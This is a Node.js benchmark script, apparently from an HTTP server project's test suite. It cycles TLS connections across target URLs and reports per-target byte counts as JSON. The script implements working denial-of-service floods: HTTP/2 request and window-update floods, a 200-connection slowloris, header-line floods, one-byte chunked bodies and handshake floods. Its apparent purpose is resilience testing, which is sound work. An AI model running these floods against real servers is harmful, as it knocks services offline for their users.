/*
 * flood-attack - one attacking connection at a time, over TLS, until it is ended by a signal
 *
 *	node bench/flood-attack.mjs NAME PATH MS URL URL ...
 *
 * The Unix time tells whose turn it is: each URL for so many milliseconds, around and around. When
 * the server ends the connection the next one is opened at once. Says "attacks" with the first
 * connection, and at SIGTERM in a line of JSON how many each URL had and what they sent.
 */
import { connect } from 'node:tls';
import { FLOODS } from '../tests/system/lib/floods.mjs';
import { END_HEADERS, END_STREAM, GET, headers, PREFACE, settings, windowUpdate } from '../tests/system/lib/h2raw.mjs';

const [name, path, slice, ...urls] = process.argv.slice(2);
const SLICE = Number(slice);
const PIECES = 100; /* in one write */
const SLOW = 200;   /* connections of a slowloris */
const sides = urls.map((url) => ({ to: new URL(url), connections: 0, bytes: 0 }));
const sockets = new Set();

const latin1 = (text) => Buffer.from(text, 'latin1');
const repeat = (n, make) => Buffer.concat(Array.from({ length: n }, (_, i) => make(i)));

/* { alpn, first, make(i): the i-th write, pause: ms between writes, at_once } */
function plan() {
	if (FLOODS[name]) {
		const [make, first] = FLOODS[name];
		const piece = make(path);
		return {
			alpn: 'h2', first: Buffer.concat([PREFACE, settings(), ...(first?.(path) ?? [])]),
			make: (i) => repeat(PIECES, (k) => piece(i * PIECES + k)),
		};
	}
	switch (name) {
	case 'requests, nothing else':
		return {
			alpn: 'h2', first: Buffer.concat([PREFACE, settings()]),
			make: (i) => repeat(10, (k) => headers(2 * (10 * i + k) + 1, GET(path))),
		};
	case 'windows that open a byte at a time':
		return {
			alpn: 'h2', pause: 10,
			first: Buffer.concat([PREFACE, settings([[4, 0]]),
				repeat(100, (i) => headers(2 * i + 1, GET(path), END_STREAM | END_HEADERS))]),
			make: (i) => windowUpdate(2 * (i % 100) + 1, 1),
		};
	case 'HTTP/1: heads that never end':
		return { first: latin1('GET / HTTP/1.1\r\nHost: x\r\nX: '), make: () => latin1('a'), pause: 100, atOnce: SLOW };
	case 'HTTP/1: heads of many lines':
		return { first: latin1('GET / HTTP/1.1\r\nHost: x\r\n'), make: (i) => repeat(PIECES, (k) => latin1(`X-${i}-${k}: y\r\n`)) };
	case 'HTTP/1: chunks of a byte':
		return {
			first: latin1(`POST ${path} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`),
			make: () => repeat(1000, () => latin1('1;aaaa\r\nx\r\n')),
		};
	case 'TLS: handshakes':
		return { make: null };
	default:
		throw new Error(`no attack is called ${name}`);
	}
}

const attack = plan();

function begin() {
	const side = sides[Math.floor(Date.now() / SLICE) % sides.length];
	const socket = connect({
		host: side.to.hostname, port: Number(side.to.port), rejectUnauthorized: false, ALPNProtocols: [attack.alpn ?? 'http/1.1'],
	});
	let i = 0;
	const go = () => {
		while (!socket.destroyed && socket.writable) {
			const bytes = attack.make(i++);
			side.bytes += bytes.length;
			if (!socket.write(bytes) || attack.pause) {
				break;
			}
		}
		if (attack.pause && !socket.destroyed) {
			setTimeout(go, attack.pause);
		}
	};
	side.connections++;
	sockets.add(socket);
	socket.on('error', () => {});
	socket.on('close', () => {
		sockets.delete(socket);
		begin();
	});
	socket.on('secureConnect', () => {
		if (!attack.make) {
			socket.destroy();
			return;
		}
		if (attack.first) {
			socket.write(attack.first);
		}
		if (!attack.pause) {
			socket.on('drain', go);
		}
		socket.resume();
		go();
	});
}

/* Each connection that ends begins anew, where the turn is then: so never a moment too early. */
function atNextTurn(fn) {
	setTimeout(fn, SLICE - Date.now() % SLICE + 1);
}

function turn() {
	for (const socket of sockets) {
		socket.destroy();
	}
	atNextTurn(turn);
}

process.on('SIGTERM', () => {
	console.log(JSON.stringify(sides));
	process.exit(0);
});
console.log('attacks');
for (let i = 0; i < (attack.atOnce ?? 1); i++) {
	begin();
}
atNextTurn(turn);
